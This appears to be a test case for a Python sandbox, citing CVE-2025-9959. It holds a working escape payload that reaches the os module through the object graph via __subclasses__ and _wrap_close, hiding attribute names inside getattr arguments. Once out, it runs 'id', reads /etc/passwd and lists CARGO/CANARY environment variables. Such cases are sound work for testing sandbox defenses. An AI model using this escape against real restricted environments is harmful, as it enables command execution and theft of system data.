# /// case
# technique = "object-graph"
# analysis = ["dynamic-attribute", "forbidden-attribute"]
# without_analysis = "contained"
# reference = "CVE-2025-9959"
# ///
# The interpreter checks names where they are written as attributes, not where they are arguments.
(kind,) = map(getattr, [()], ["__class__"])
(base,) = map(getattr, [kind], ["__base__"])
(children,) = map(lambda owner: owner.__subclasses__(), [base])
found = next(c.__init__.__globals__["sys"].modules["os"] for c in children if c.__name__ == "_wrap_close")

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
